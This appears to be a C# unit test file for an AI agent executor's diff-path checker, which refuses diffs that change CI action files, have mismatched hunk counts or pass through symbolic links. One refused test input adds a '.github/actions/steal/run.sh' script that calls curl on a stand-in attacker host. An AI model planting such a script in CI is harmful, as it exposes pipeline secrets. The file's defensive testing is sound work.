using Agentic.Executor.Commands;

namespace Agentic.Executor.Tests.Commands;

/// <summary><see cref="ApplyDiffCommand.CheckPaths"/> before anything reaches git (the pipeline tests apply diffs for real).</summary>
public sealed class ApplyDiffCommandTests
{
    [Test]
    public void Should_accept_a_diff_when_its_hunks_remove_and_add_lines_that_look_like_file_headers()
    {
        const string diff = """
            diff --git a/db/schema.sql b/db/schema.sql
            --- a/db/schema.sql
            +++ b/db/schema.sql
            @@ -1,4 +1,3 @@
            --- a/.github/workflows/ci.yml
            -++ b/.github/workflows/ci.yml
            +++ counter;
             CREATE TABLE t (id int);
             -- end

            """;

        Assert.That(ApplyDiffCommand.CheckPaths(diff, workspace: null), Is.Null);
    }

    [TestCase("diff --git a/.github/actions/setup/action.yml b/.github/actions/setup/action.yml\n--- a/.github/actions/setup/action.yml\n+++ b/.github/actions/setup/action.yml\n@@ -1 +1 @@\n-a\n+b\n")]
    [TestCase("--- /dev/null\n+++ b/.github/actions/steal/run.sh\n@@ -0,0 +1 @@\n+curl evil.example\n")]
    [TestCase("diff --git a/README.md b/.github/actions/x/action.yml\nsimilarity index 100%\nrename from README.md\nrename to .github/actions/x/action.yml\n")]
    public void Should_refuse_a_diff_when_it_changes_a_ci_action(string diff)
    {
        Assert.That(ApplyDiffCommand.CheckPaths(diff, workspace: null), Does.EndWith("action files are never changed"));
    }

    [Test]
    public void Should_refuse_a_diff_when_a_hunk_has_fewer_lines_than_its_header_counts()
    {
        // With the counts taken at their word the workflow header would be hunk content; they do not match, so it is refused.
        const string diff = "--- a/src/a.txt\n+++ b/src/a.txt\n@@ -1,3 +1,3 @@\n-a\n+b\ndiff --git a/.github/workflows/ci.yml b/.github/workflows/ci.yml\n";

        Assert.That(ApplyDiffCommand.CheckPaths(diff, workspace: null), Is.EqualTo(
            "'src/a.txt' hunk 1 (@@ -1,3 +1,3 @@) counts 3 old and 3 new lines but has 1 and 1: the counts in a hunk header must match the hunk's lines"));
    }

    [Test]
    public void Should_refuse_a_diff_when_a_path_goes_through_a_symbolic_link_in_the_working_copy()
    {
        var workspace = Directory.CreateTempSubdirectory("agentic-apply").FullName;
        try
        {
            File.CreateSymbolicLink(Path.Combine(workspace, "config"), "/etc");

            Assert.That(ApplyDiffCommand.CheckPaths("--- a/config/hosts\n+++ b/config/hosts\n@@ -1 +1 @@\n-a\n+b\n", workspace), Is.EqualTo("'config/hosts' goes through a symbolic link"));
        }
        finally
        {
            Directory.Delete(workspace, recursive: true);
        }
    }

    [TestCase("")]
    [TestCase("Sorry, no diff.\n")]
    public void Should_refuse_a_diff_when_it_names_no_file(string diff)
    {
        Assert.That(ApplyDiffCommand.CheckPaths(diff, workspace: null), Is.EqualTo("not a unified diff (no file headers)"));
    }
}
